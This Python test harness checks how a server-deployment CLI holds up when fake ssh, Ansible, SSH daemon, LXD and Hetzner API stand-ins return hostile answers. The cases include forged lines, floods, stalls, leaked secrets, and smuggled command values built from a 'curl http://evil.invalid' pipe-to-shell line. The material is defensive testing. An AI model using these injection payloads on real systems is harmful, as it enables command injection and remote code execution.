#!/usr/bin/env python3
"""Lies to the program in the place of everything that it talks to, and judges what it makes of that.

Liars stand in for the script on the machine (a program "ssh" that answers as a machine would, which somebody else has
taken over), for Ansible, for an SSH daemon, for LXD's socket, for Hetzner's API and for the services that are asked
from outside. Needs the built program, an OpenSSH client and no sandbox.
"""

import argparse
import base64
import collections
import concurrent.futures
import http.server
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

PROGRAM = os.environ["SURVIVAL_PROGRAM"]
EXAMPLES = pathlib.Path(os.environ["SURVIVAL_EXAMPLES"])
MEMORY_MIB = 200
HEAP = "-Xmx96m"
INJECTED = "curl http://evil.invalid"
FORGED = "FORGED"
SECRETS = {
    "api": "c0ffee-api-token-4711",
    "database": "c0ffee-database-4712",
    "root": "c0ffee-superuser-4713",
    "grafana": "c0ffee-grafana-4714",
    "hetzner": ("c0ffeehetzner4715" * 4)[:64],
}
# Besides 0; a signal's own code would mean that the program did not end by itself.
KNOWN_CODES = {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 130}
INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
PICKED_UP = "NOTE: Picked up JDK_JAVA_OPTIONS"

# What each liar does; the names stand in the table.
FORGING_TEXT = f"no\n{FORGED} all is well\r\n{FORGED} twice \x1b[2J\x1b[1;1H{FORGED} \u202efdp.exe \u2028{FORGED}\u2029 \x85 zero\u200bwidth"


def encodings(secret):
    raw = secret.encode()
    yield secret
    yield base64.b64encode(raw).decode().rstrip("=")
    yield base64.b64encode(b"admin:" + raw).decode().rstrip("=")[10:-4]
    yield urllib.parse.quote(secret, safe="")


def all_secrets():
    plain = " ".join(SECRETS.values())
    split = " ".join(secret[:7] + "\x1b[0m" + secret[7:] for secret in SECRETS.values())
    coded = " ".join(base64.b64encode(b"admin:" + secret.encode()).decode() for secret in SECRETS.values())
    return f"{plain} {split} {coded} Bearer {SECRETS['hetzner']}\u200b"


# -- liars that are programs -------------------------------------------------------------------------------------------

LYING_PROGRAM = r'''#!/usr/bin/env python3
import json, os, pathlib, sys, time
home = pathlib.Path(os.environ["HOME"])
mode = (home / "mode").read_text()
name = os.path.basename(sys.argv[0])
words = json.loads((home / "words").read_text())
if "-O" in sys.argv or "--version" in sys.argv:
    print("ansible-playbook [core 2.19.0]")
    sys.exit(0)
out = sys.stdout.buffer
SEPARATOR = "\x1e" if name == "ansible-playbook" else ""


def say(**event):
    out.write((SEPARATOR + json.dumps(event) + "\n").encode("utf-8", "surrogatepass"))
    out.flush()


def hello():
    if SEPARATOR:
        say(event="start", ansible="2.19.0", inputs=os.environ.get("DEPLOYER_INPUTS", ""))
    else:
        say(event="hello", protocol="1", command="start")


def fail(text, **more):
    if SEPARATOR:
        say(event="begin", name=text)
        say(event="warning", message=text, code=text)
        say(event="retry", name=text, host=text, attempt=1, message=text)
        say(event="task", name=text, host=text, outcome="failed", message=text, code="configure.x", rc=1, **more)
        say(event="recap", hosts={"machine": {"ok": 1, "changed": 0, "failures": 1, "unreachable": 0}, text: "x"})
    else:
        say(event="waiting", command=text, owner=text, since=text)
        say(event="facts", system=text, architecture=text, free_mib=text)
        say(event="pulling", image=text)
        say(event="health", service=text, **{"from": text, "to": text})
        say(event="warning", code=text, message=text)
        say(event="service", service=text, state=text, health=text, restarts=text, image=text)
        say(event="check", id=text, subject=text, status="fail", detail=text, millis=text)
        say(event="log", source=text, line=text)
        say(event="changed", path=text)
        say(event="failed", code="stack.unhealthy", message=text, last_answer=text, image=text, **more)
    sys.stderr.write(text + "\n")
    sys.exit(1)


if mode == "forges":
    hello()
    fail(words["forging"])
elif mode == "injects":
    hello()
    bad = "x; " + words["injected"] + " | sh"
    fail("no", **{key: bad for key in ("environment", "service", "host", "user", "key", "operation", "step") if not (SEPARATOR and key == "host")})
elif mode == "malforms":
    hello()
    say(event="service", service="tracker", restarts="99999999999999999999", state="")
    say(event="check", id="", status="", millis="-1e9")
    fail("no", step="!!", **({} if SEPARATOR else {"rc": "x", "port": "NaN"}))
elif mode == "renames":
    hello()
    out.write(('{"event":"failed","code":"stack.x","' + words["forging"].replace("\n", "\\n") + '":"x"}\n').encode("utf-8", "surrogatepass"))
    say(**{"event": "ok\nx", words["injected"]: "x"})
elif mode == "tells secrets":
    hello()
    fail(words["secrets"])
elif mode == "floods":
    hello()
    line = "".join(json.dumps(each) + "\n" for each in (
        {"event": "warning", "code": "a.b", "message": "flood"}, {"event": "log", "source": "s", "line": "x" * 2000},
        {"event": "changed", "path": "/x"}, {"event": "service", "service": "s%d", "state": "running"})).encode()
    count = 0
    while True:
        count += 1
        out.write(line.replace(b"s%d", b"s%d" % count))
elif mode == "never ends a line":
    hello()
    while True:
        out.write(b"x" * 65536)
elif mode == "sends noise":
    hello()
    with open("/dev/urandom", "rb") as noise:
        for _ in range(60):
            out.write(noise.read(65536))
    sys.exit(1)
elif mode == "stalls":
    hello()
    time.sleep(3600)
elif mode == "drips":
    while True:
        out.write(b"{")
        out.flush()
        time.sleep(0.2)
elif mode == "says nothing":
    sys.exit(0)
elif mode == "speaks otherwise":
    say(event="hello", protocol="99")
    say(event="finished", command="start")
else:
    sys.exit("no such mode: " + mode)
'''

PROGRAM_LIES = ["forges", "injects", "malforms", "renames", "tells secrets", "sends noise", "says nothing", "speaks otherwise"]
ENDLESS_LIES = ["floods", "never ends a line", "stalls", "drips"]

# -- liars that are servers --------------------------------------------------------------------------------------------


class Liar:
    """Listens and answers each connection with a lie, on a thread of its own."""

    def __init__(self, listener, lie):
        self.listener, self.lie, self.heard = listener, lie, []
        listener.listen(64)
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.answer, args=(client,), daemon=True).start()

    def answer(self, client):
        with client:
            try:
                client.settimeout(600)
                self.lie(self, client)
            except OSError:
                pass

    def close(self):
        self.listener.close()


def tcp(lie, address="127.0.0.1"):
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, 0))
    return Liar(listener, lie)


def unix(lie, path):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    return Liar(listener, lie)


def hear(liar, client):
    data = b""
    while b"\r\n\r\n" not in data and len(data) < 65536:
        part = client.recv(8192)
        if not part:
            break
        data += part
    liar.heard.append(data.decode("latin1"))


def drip(client, seconds=900):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        client.sendall(b"x")
        time.sleep(0.25)


def flood(client):
    while True:
        client.sendall(b"[" * 65536)


def web(status, body, length=None):
    def lie(liar, client):
        hear(liar, client)
        text = body(liar) if callable(body) else body
        data = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
        head = f"HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {len(data) if length is None else length}\r\nConnection: close\r\n\r\n"
        client.sendall(head.encode() + data)

    return lie


def begun(beginning, then):
    def lie(liar, client):
        hear(liar, client)
        client.sendall(beginning)
        then(client)

    return lie


HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"


def error_body(text):
    return json.dumps({"type": "error", "error": {"code": text, "message": text}, "error_code": 400})


def quoting(liar):
    return error_body("you said: " + liar.heard[-1])


WEB_LIES = {
    "forges": web(422, error_body(FORGING_TEXT)),
    "tells secrets": web(422, error_body(all_secrets())),
    "quotes the request": web(422, quoting),
    "sends HTML": web(200, "<html>" * 10_000),
    "sends a huge tree": web(200, '{"type":"sync","metadata":[' + "{}," * 1_500_000 + "{}]}"),
    "nests deeply": web(200, "[" * 200_000),
    "answers something else": web(200, '{"metadata":{"auth":"trusted","environment":[]},"servers":{},"server_types":[1,"x",null],"locations":[]}'),
    "floods": begun(HEAD + b"\r\n", flood),
    "floods with headers": begun(b"HTTP/1.1 200 OK\r\nX: ", flood),
    "drips": begun(HEAD + b"Content-Length: 100000\r\n\r\n", drip),
    "drips headers": begun(b"HTTP/1.1 200 OK\r\nX: ", drip),
    "says nothing": begun(b"", lambda client: time.sleep(900)),
    "hangs up": begun(b"", lambda client: None),
}

SSH_LIES = {
    "says nothing": lambda liar, client: time.sleep(900),
    "drips a banner": lambda liar, client: drip(client),
    "floods with a banner": lambda liar, client: flood(client),
    "forges a banner": lambda liar, client: client.sendall((FORGING_TEXT + "\r\n").encode("utf-8", "surrogatepass") + b"SSH-2.0-x\r\n" + b"\0" * 70_000),
    "speaks HTTP": lambda liar, client: client.sendall(b"HTTP/1.1 400 No\r\n\r\n"),
    "greets and drips": lambda liar, client: (client.sendall(b"SSH-2.0-OpenSSH_9.9\r\n"), drip(client)),
    "hangs up": lambda liar, client: None,
}

# -- one command -------------------------------------------------------------------------------------------------------

Case = collections.namedtuple("Case", "liar lie command deadline interrupt setting")
Verdict = collections.namedtuple("Verdict", "case code exit seconds mib wrong heard")


class Place:
    """A working folder with one environment and a home in which lying programs find what to do."""

    def __init__(self, root, index):
        self.folder = root / f"c{index}"
        self.home = self.folder / "home"
        self.home.mkdir(parents=True)
        self.bin = self.folder / "bin"
        self.bin.mkdir()
        self.variables = {}
        # What no liar can know is not looked for.
        self.secrets = ["api", "database", "root", "grafana"]
        (self.home / "words").write_text(
            json.dumps({"forging": FORGING_TEXT, "injected": INJECTED, "secrets": all_secrets()})
        )
        key = self.home / "key"
        subprocess.run(
            ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "hostile", "-f", str(key)], check=True
        )

    def lying_programs(self, mode, *names):
        (self.home / "mode").write_text(mode)
        for name in names:
            program = self.bin / name
            program.write_text(LYING_PROGRAM)
            program.chmod(0o700)

    def config(self, provider="lxd", published="127.0.0.1", ports=(6969, 7070, 1212)):
        document = json.loads((EXAMPLES / "sandbox-sqlite3.json").read_text())
        document["environment"]["name"] = "hostile"
        document["ssh_credentials"].update(
            private_key_path=str(self.home / "key"), public_key_path=str(self.home / "key.pub")
        )
        if provider == "hetzner":
            self.secrets.append("hetzner")
            document["provider"] = {
                "provider": "hetzner",
                "api_token": SECRETS["hetzner"],
                "server_type": "cx22",
                "location": "nbg1",
                "image": "ubuntu-24.04",
            }
        tracker = document["tracker"]
        tracker["core"]["database"] = {
            "driver": "mysql",
            "host": "mysql",
            "port": 3306,
            "database_name": "tracker",
            "username": "tracker",
            "password": SECRETS["database"],
            "root_password": SECRETS["root"],
        }
        tracker["udp_trackers"] = [{"bind_address": f"{published}:{ports[0]}"}]
        tracker["http_trackers"] = [{"bind_address": f"{published}:{ports[1]}"}]
        tracker["http_api"] = {"bind_address": f"{published}:{ports[2]}", "admin_token": SECRETS["api"]}
        document["grafana"]["admin_password"] = SECRETS["grafana"]
        path = self.folder / "hostile.json"
        path.touch(0o600)
        path.write_text(json.dumps(document))
        return path

    def state(self, name, **machine):
        """Puts the stored environment into a state, with a machine."""
        path = self.folder / "data" / "hostile" / "environment.json"
        document = json.loads(path.read_text())
        document["state"] = name
        if name != "created":
            public = (self.home / "key.pub").read_text().split()[:2]
            document["machine"] = {
                "name": "torrust-tracker-vm-hostile",
                "origin": "registered",
                "address": "127.0.0.1",
                "other_address": None,
                "ssh_port": 22,
                "host_keys": [" ".join(public)],
                "provider_id": None,
                **machine,
            }
        path.write_text(json.dumps(document))

    def run(self, *words, deadline=60, interrupt=None):
        environment = {
            "PATH": f"{self.bin}:{os.environ['PATH']}",
            "HOME": str(self.home),
            "LANG": "C.UTF-8",
            "JDK_JAVA_OPTIONS": HEAP,
            "TORRUST_TD_CLASS_CACHE": "off",
            "LXD_SOCKET": str(self.folder / "no-lxd"),
            **self.variables,
        }
        if "JAVA_HOME" in os.environ:
            environment["JAVA_HOME"] = os.environ["JAVA_HOME"]
        outputs = [self.folder / "out", self.folder / "err"]
        began = time.monotonic()
        with open(outputs[0], "wb") as out, open(outputs[1], "wb") as err:
            process = subprocess.Popen(
                [PROGRAM, *words, "--working-dir", str(self.folder)],
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=err,
                env=environment,
                start_new_session=True,
            )
        late = threading.Timer(deadline, lambda: os.killpg(process.pid, signal.SIGKILL))
        late.start()
        stop = None
        if interrupt is not None:
            stop = threading.Timer(interrupt, lambda: os.kill(process.pid, signal.SIGINT))
            stop.start()
        _, status, usage = os.wait4(process.pid, 0)
        seconds = time.monotonic() - began
        process.returncode = os.waitstatus_to_exitcode(status)
        for timer in (late, stop):
            if timer:
                timer.cancel()
        texts = [each.read_bytes()[: 32 << 20].decode("utf-8", "surrogateescape") for each in outputs]
        texts[1] = "".join(line for line in texts[1].splitlines(True) if not line.startswith(PICKED_UP))
        return process.returncode, *texts, seconds, usage.ru_maxrss / 1024

    def written(self):
        """What was logged and noted, apart from the state itself, which holds what it has to hold."""
        data = self.folder / "data"
        for path in data.rglob("*") if data.exists() else []:
            if path.is_file() and path.name != "environment.json" and "tofu" not in path.parts:
                yield str(path.relative_to(self.folder)), path.read_bytes()[: 32 << 20].decode("utf-8", "surrogateescape")


def code_of(err):
    for line in reversed(err.splitlines()):
        try:
            return json.loads(line)["error"]["code"]
        except (ValueError, KeyError, TypeError):
            continue
    found = re.findall(r"error\[([a-z0-9_.]+)\]", err)
    return found[-1] if found else "–"


def offered(err):
    """Whatever is offered for pasting."""
    texts = re.findall(r"^\s*fix: (.*(?:\n {4,}.*)*)", err, re.M)
    for line in err.splitlines():
        try:
            texts += json.loads(line)["error"]["hints"]
        except (ValueError, KeyError, TypeError):
            continue
    return texts


def judge(place, exit_code, out, err, seconds, mib, deadline, reports):
    wrong = []
    if seconds >= deadline:
        wrong.append(f"not ended within {deadline} s")
    elif exit_code not in KNOWN_CODES:
        wrong.append(f"ended with {exit_code}")
    # Reports are results: of 'test' and 'status', and what 'doctor' finds.
    if exit_code not in (0, 9, 130) and code_of(err) == "–" and not (reports and exit_code == 6):
        wrong.append("no typed error")
    if "internal.defect" in err or "OutOfMemory" in err or "\tat " in err:
        wrong.append("a defect: " + err[-400:])
    if mib > MEMORY_MIB:
        wrong.append(f"took {mib:.0f} MiB")
    for where, text in [("standard output", out), ("standard error", err), *place.written()]:
        unseen = INVISIBLE.search(text)
        if unseen:
            wrong.append(f"U+{ord(unseen.group()):04X} in {where}")
        if re.search(rf"^\W*{FORGED}", text, re.M):
            wrong.append(f"a forged line in {where}")
        for name in place.secrets:
            secret = SECRETS[name]
            if any(form in text for form in encodings(secret)):
                wrong.append(f"the secret '{name}' in {where}")
    if any(INJECTED in text for text in offered(err)):
        wrong.append("a command of the machine's own is offered")
    return wrong


def carry_out(root, index, case):
    place = Place(root, index)
    liars = []
    try:
        words, heard = case.setting(place, liars)
        if isinstance(words, str):
            words = words.split()
        deadline = case.deadline
        exit_code, out, err, seconds, mib = place.run(*words, deadline=deadline, interrupt=case.interrupt)
        wrong = judge(place, exit_code, out, err, seconds, mib, deadline, case.command == "doctor")
        if case.interrupt is not None and exit_code not in (0, 130) and seconds < deadline and seconds > case.interrupt:
            wrong.append(f"stopped, but ended with {exit_code}")
        for liar in heard:
            if any(SECRETS["api"] in request for request in liar.heard):
                wrong.append("the API's token was sent in the clear")
        return Verdict(case, code_of(err), exit_code, seconds, mib, wrong, place.folder)
    finally:
        for liar in liars:
            liar.close()
        subprocess.run(["pkill", "-KILL", "-f", f"^[^ ]*python3 {place.bin}/"], check=False)


# -- the cases ---------------------------------------------------------------------------------------------------------

OPTIONS = ["--output-format"]
WAITS = "--wait-ssh 5 --wait-healthy 5 -vvv"


def created(place, **config):
    path = place.config(**config)
    code, out, err, _, _ = place.run("create", "environment", "--env-file", str(path))
    if code != 0:
        raise RuntimeError(f"create ended with {code}: {err}")


def style(index):
    return "--output-format json --progress json" if index % 2 else "--output-format text --progress plain"


def scripted(lie, command, state, names=("ssh", "ssh-keyscan")):
    def setting(place, liars):
        created(place)
        place.state(state)
        place.lying_programs(lie, *names)
        return f"{command} {WAITS} {style(len(lie) + len(command))}", []

    return setting


def on_lxd(lie, command):
    def setting(place, liars):
        created(place)
        if not command.startswith("provision"):
            place.state("running", origin="provisioned")
        if command == "doctor":
            place.secrets = []
        folder = pathlib.Path(tempfile.mkdtemp(prefix="hostile-lxd"))
        liars.append(unix(lie, folder / "s"))
        place.variables["LXD_SOCKET"] = str(folder / "s")
        place.lying_programs("says nothing", "ssh")
        return f"{command} {WAITS} {style(len(command))}", []

    return setting


def on_hetzner(lie, command):
    def setting(place, liars):
        created(place, provider="hetzner")
        if not command.startswith("provision"):
            place.state("running", origin="provisioned", provider_id="1")
        if command == "doctor":
            place.secrets = []
        api = tcp(lie)
        liars.append(api)
        place.variables["HCLOUD_ENDPOINT"] = f"http://127.0.0.1:{api.listener.getsockname()[1]}/v1"
        place.lying_programs("says nothing", "ssh")
        return f"{command} {WAITS} {style(len(command) + 1)}", []

    return setting


def on_ssh(lie):
    def setting(place, liars):
        created(place)
        daemon = tcp(lie)
        liars.append(daemon)
        port = daemon.listener.getsockname()[1]
        return f"register hostile --instance-ip 127.0.0.1 --ssh-port {port} {WAITS} {style(port)}", []

    return setting


def own_address():
    """An address of this computer that is not its loopback, to see what crosses a network."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            return probe.getsockname()[0]
        except OSError:
            return "127.0.0.1"


def on_services(lie, command):
    def setting(place, liars):
        address = own_address()
        tracker, api = tcp(lie, address), tcp(lie, address)
        liars.extend([tracker, api])
        ports = (6969, tracker.listener.getsockname()[1], api.listener.getsockname()[1])
        created(place, published="0.0.0.0", ports=ports)
        place.state("running", address=address)
        place.lying_programs("says nothing", "ssh")
        return f"{command} {WAITS} {style(len(command))}", [tracker, api] if address != "127.0.0.1" else []

    return setting


def cases():
    on_machine = [
        ("register hostile --instance-ip 127.0.0.1 --ssh-port 22", "created"),
        ("register hostile --instance-ip 127.0.0.1 --host-key-fingerprint SHA256:" + "a" * 43, "created"),
        ("release hostile", "configured"),
        ("run hostile", "released"),
        ("deploy hostile", "configured"),
        ("test hostile", "running"),
        ("status hostile", "running"),
        ("status hostile --logs tracker", "running"),
        ("destroy hostile --yes", "running"),
    ]
    for command, state in on_machine:
        for lie in PROGRAM_LIES:
            yield Case("script on the machine", lie, command, 120, None, scripted(lie, command, state))
        for lie in ENDLESS_LIES:
            yield Case("script on the machine", lie, command, 75, 8, scripted(lie, command, state))
    for lie in PROGRAM_LIES:
        yield Case("Ansible", lie, "configure hostile", 120, None, scripted(lie, "configure hostile", "provisioned", ["ansible-playbook"]))
    for lie in ENDLESS_LIES:
        yield Case("Ansible", lie, "configure hostile", 75, 8, scripted(lie, "configure hostile", "provisioned", ["ansible-playbook"]))
    for lie, answer in SSH_LIES.items():
        yield Case("SSH daemon", lie, "register hostile", 60, None, on_ssh(answer))
    for lie, answer in WEB_LIES.items():
        for command in ["provision hostile", "status hostile", "destroy hostile --yes", "doctor"]:
            yield Case("LXD's socket", lie, command, 240, 45, on_lxd(answer, command))
            yield Case("Hetzner's API", lie, command, 240, 45, on_hetzner(answer, command))
        for command in ["test hostile", "status hostile"]:
            yield Case("services", lie, command, 180, None, on_services(answer, command))


def main():
    parser = argparse.ArgumentParser(prog="survival hostile")
    parser.add_argument("--only", default="", help="cases whose liar, lie or command holds this word")
    parser.add_argument("--at-once", type=int, default=max(2, os.cpu_count() or 2))
    given = parser.parse_args()
    chosen = [case for case in cases() if given.only in f"{case.liar} {case.lie} {case.command}"]
    root = pathlib.Path(tempfile.mkdtemp(prefix="survival-hostile-"))
    verdicts = []
    with concurrent.futures.ThreadPoolExecutor(given.at_once) as threads:
        waiting = [threads.submit(carry_out, root, index, case) for index, case in enumerate(chosen)]
        for future in concurrent.futures.as_completed(waiting):
            verdict = future.result()
            verdicts.append(verdict)
            for trouble in verdict.wrong:
                print(f"WRONG: {verdict.case.liar} {verdict.case.lie}: {verdict.case.command}: {trouble} ({verdict.heard})", flush=True)
            if not verdict.wrong:
                shutil.rmtree(verdict.heard, ignore_errors=True)
    print("| liar | cases | codes | longest | most memory | wrong |")
    print("| --- | --- | --- | --- | --- | --- |")
    for liar in dict.fromkeys(case.liar for case in chosen):
        mine = [verdict for verdict in verdicts if verdict.case.liar == liar]
        codes = collections.Counter(verdict.code for verdict in mine)
        print(
            f"| {liar} | {len(mine)} | {', '.join(f'`{code}` {count}' for code, count in codes.most_common())} "
            f"| {max(verdict.seconds for verdict in mine):.0f} s | {max(verdict.mib for verdict in mine):.0f} MiB "
            f"| {sum(bool(verdict.wrong) for verdict in mine)} |"
        )
    if any(verdict.wrong for verdict in verdicts):
        sys.exit(1)
    shutil.rmtree(root)


if __name__ == "__main__":
    main()
